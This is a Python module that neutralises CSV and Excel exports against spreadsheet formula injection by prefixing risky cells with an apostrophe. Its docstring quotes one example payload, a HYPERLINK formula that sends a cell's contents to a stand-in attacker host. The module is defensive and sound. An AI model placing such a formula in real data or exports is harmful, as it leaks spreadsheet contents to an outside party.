"""Tables people open in a spreadsheet: CSV and Excel files written without a live formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel and LibreOffice (CSV/formula injection, OWASP): a feed item's description
``=HYPERLINK("http://evil.example/?leak="&A1, "click me")`` or a sign-in attempt under such a
user name would run in the admin's spreadsheet. Every table we write passes its text through
:func:`neutral`, which puts an apostrophe in front, as OWASP recommends; numbers stay numbers and
the stored value stays as the person gave it.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Sequence
from datetime import datetime
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral(value: Any) -> Any:
    """``value`` as a spreadsheet reads it as text: a string that would start a formula gets an
    apostrophe in front; anything else is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutral_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame with every text cell (and column name) neutral."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or str(out[column].dtype) in ("string", "str"):
            out[column] = out[column].map(neutral)
    out.columns = [neutral(c) for c in out.columns]
    return out


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """CSV of ``rows`` under ``header``, every text cell neutral."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([neutral(h) for h in header])
    for row in rows:
        writer.writerow([neutral(v) for v in row])
    return out.getvalue()


def frame_csv(frame: Any) -> str:
    """A pandas DataFrame as CSV text, every text cell neutral."""
    text: str = neutral_frame(frame).to_csv(index=False)
    return text


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], sheet: str = "data") -> bytes:
    """An Excel workbook of one sheet, streamed row by row (openpyxl's write-only mode), every
    text cell neutral: openpyxl itself stores a string that starts with ``=`` as a formula."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    page = book.create_sheet(sheet)
    page.append([neutral(h) for h in header])
    for row in rows:
        page.append([_xlsx_value(v) for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xlsx_value(value: Any) -> Any:
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)  # Excel has no zones: the caller chose the clock
    if isinstance(value, float) and math.isnan(value):
        return None  # an empty cell
    if value is not None and type(value).__name__ == "NaTType":
        return None
    return neutral(value)
